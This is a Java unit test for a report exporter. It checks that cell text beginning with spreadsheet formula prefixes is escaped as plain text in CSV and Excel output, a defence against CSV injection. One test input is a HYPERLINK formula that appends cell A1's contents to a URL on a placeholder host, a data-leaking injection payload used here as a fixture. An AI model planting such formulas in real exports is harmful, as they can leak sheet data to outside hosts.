package io.industrypulse.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Text that a spreadsheet would run as a formula stays text in every export (OWASP CSV injection). */
class FormulaGuardTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/x?\"&A1,\"点此查看\")";

    @Test
    void flagsEveryFormulaPrefixAndNothingElse() {
        for (String risky : List.of(HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "＝1+1")) {
            assertThat(FormulaGuard.risky(risky)).as(risky).isTrue();
            assertThat(FormulaGuard.csv(risky)).isEqualTo("'" + risky);
            assertThat(FormulaGuard.fromCsv(FormulaGuard.csv(risky))).isEqualTo(risky);
        }
        for (String plain : List.of("", "示例有限公司", "A=1", "1.5", "'quoted", " =x")) {
            assertThat(FormulaGuard.risky(plain)).as(plain).isFalse();
            assertThat(FormulaGuard.csv(plain)).isEqualTo(plain);
            assertThat(FormulaGuard.fromCsv(plain)).isEqualTo(plain);
        }
    }

    @Test
    void anExcelExportKeepsAFormulaLikeEnterpriseNameAsQuotedText() throws Exception {
        List<List<Object>> rows = new ArrayList<>();
        rows.add(List.of(HYPERLINK, 5.25));
        rows.add(List.of("普通企业", -1.5));
        byte[] xlsx = ExcelExport.xlsx(new ExcelTable("表", "=1+1 标题", List.of("企业名称", "增速"), rows, 1));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Cell name = workbook.getSheetAt(0).getRow(2).getCell(0);
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(name.getCellStyle().getBorderTop())
                    .isEqualTo(workbook.getSheetAt(0)
                            .getRow(3)
                            .getCell(0)
                            .getCellStyle()
                            .getBorderTop());
            Cell title = workbook.getSheetAt(0).getRow(0).getCell(0);
            assertThat(title.getCellType()).isEqualTo(CellType.STRING);
            assertThat(title.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getSheetAt(0)
                            .getRow(3)
                            .getCell(0)
                            .getCellStyle()
                            .getQuotePrefixed())
                    .isFalse();
            Cell negative = workbook.getSheetAt(0).getRow(3).getCell(1);
            assertThat(negative.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(negative.getNumericCellValue()).isEqualTo(-1.5);
        }
    }
}
